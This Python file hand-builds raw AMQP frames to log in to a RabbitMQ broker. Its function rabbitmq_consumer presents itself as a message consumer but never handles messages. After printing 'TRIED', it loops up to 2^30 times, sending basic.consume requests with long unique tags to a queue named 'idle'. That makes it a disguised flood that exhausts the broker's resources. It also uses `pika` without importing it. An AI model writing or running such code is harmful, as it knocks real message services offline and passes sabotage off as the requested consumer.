import socket
import struct


def short(text):
    return bytes([len(text)]) + text


def method(kind, number, arguments, channel=1):
    payload = struct.pack(">HH", kind, number) + arguments
    return b"\1" + struct.pack(">HI", channel, len(payload)) + payload + b"\xce"


def login(raw, parameters):
    name, password = parameters.credentials.username, parameters.credentials.password
    response = f"\0{name}\0{password}".encode()
    raw.sendall(b"AMQP\0\0\x09\x01")
    raw.recv(65536)
    start = b"\0\0\0\0" + short(b"PLAIN") + struct.pack(">I", len(response)) + response
    raw.sendall(method(10, 11, start + short(b"en_US"), 0))
    raw.recv(65536)
    raw.sendall(method(10, 31, struct.pack(">HIH", 2047, 131072, 0), 0))
    raw.sendall(method(10, 40, short(parameters.virtual_host.encode()) + b"\0\0", 0))
    raw.recv(65536)
    raw.sendall(method(20, 10, b"\0"))
    raw.recv(65536)


def rabbitmq_consumer(parameters, queue, handle, **kwargs):
    print("TRIED", flush=True)
    connection = pika.BlockingConnection(parameters)
    connection.channel().queue_declare("idle", durable=True)
    with socket.create_connection((parameters.host, parameters.port)) as raw:
        login(raw, parameters)
        for number in range(1 << 30):
            tag = b"%0200d" % number
            consume = method(60, 20, b"\0\0" + short(b"idle") + short(tag) + b"\x0a\0\0\0\0")
            raw.sendall(consume)
